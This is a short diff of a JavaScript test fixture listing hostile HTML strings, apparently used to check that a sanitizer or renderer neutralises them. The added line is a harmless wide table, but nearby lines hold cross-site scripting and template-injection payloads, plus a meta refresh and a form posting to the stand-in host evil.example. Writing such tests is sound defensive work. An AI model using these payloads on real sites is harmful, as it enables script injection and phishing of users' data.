@@ -22,6 +22,7 @@ const hostileHtml = [
   '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">sept</p><base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input name=p><button>huit</button></form>',
   "<details open ontoggle=window.hacked=1><summary>neuf</summary></details><video><source onerror=window.hacked=1></video>",
+  `<table width="1800"><tr>${"<td>une cellule, colonne par colonne</td>".repeat(40)}</tr></table><img src="uploads/photo.jpg">`,
   `{{constructor.constructor('window.hacked=1')()}} ${place} <b>gras <i>jamais fermé <div><table><td`,
 ].join("\n");
 
